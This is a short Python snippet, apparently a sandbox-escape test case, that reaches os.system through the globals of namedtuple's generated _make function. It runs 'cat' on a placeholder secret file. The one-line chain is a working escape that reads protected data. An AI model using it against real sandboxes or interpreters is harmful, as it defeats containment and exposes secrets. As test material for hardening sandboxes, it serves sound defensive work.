# namedtuple evals a generated lambda; the function's globals hold nothing, its builtins do.
# effect: run
import collections
Point = collections.namedtuple("Point", "x")
Point._make.__func__.__globals__["_sys"].modules["os"].system("cat @SECRET@")
